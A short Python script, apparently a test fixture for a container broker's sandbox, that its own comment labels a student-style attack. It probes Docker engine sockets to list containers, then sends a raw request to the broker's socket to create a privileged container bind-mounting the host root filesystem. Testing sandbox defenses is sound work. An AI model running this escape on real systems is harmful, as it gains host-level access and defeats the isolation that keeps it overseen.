# expect: network
# ruff: noqa -- written as a student would: this is the attack, not project code
# Skip the broker: talk to the host's engine, or to the broker's socket by hand.
import json, socket
for path in ("/var/run/docker.sock", "/run/docker.sock", "/host/var/run/docker.sock"):
    try:
        raw = socket.socket(socket.AF_UNIX)
        raw.connect(path)
        raw.sendall(b"GET /v1.41/containers/json?all=1 HTTP/1.1\r\nHost: x\r\n\r\n")
        raw.recv(65536)
    except Exception:
        pass
try:  # the broker's own socket, with a request the SDK would never send
    body = json.dumps({"Image": BASE_IMAGE, "HostConfig": {"Privileged": True, "Binds": ["/:/host"]}})
    raw = socket.socket(socket.AF_UNIX)
    raw.connect("/run/dlcloud-engine/docker.sock")
    raw.sendall(f"POST /v1.41/containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                f"Content-Length: {len(body)}\r\n\r\n{body}".encode())
    raw.recv(65536)
except Exception:
    pass
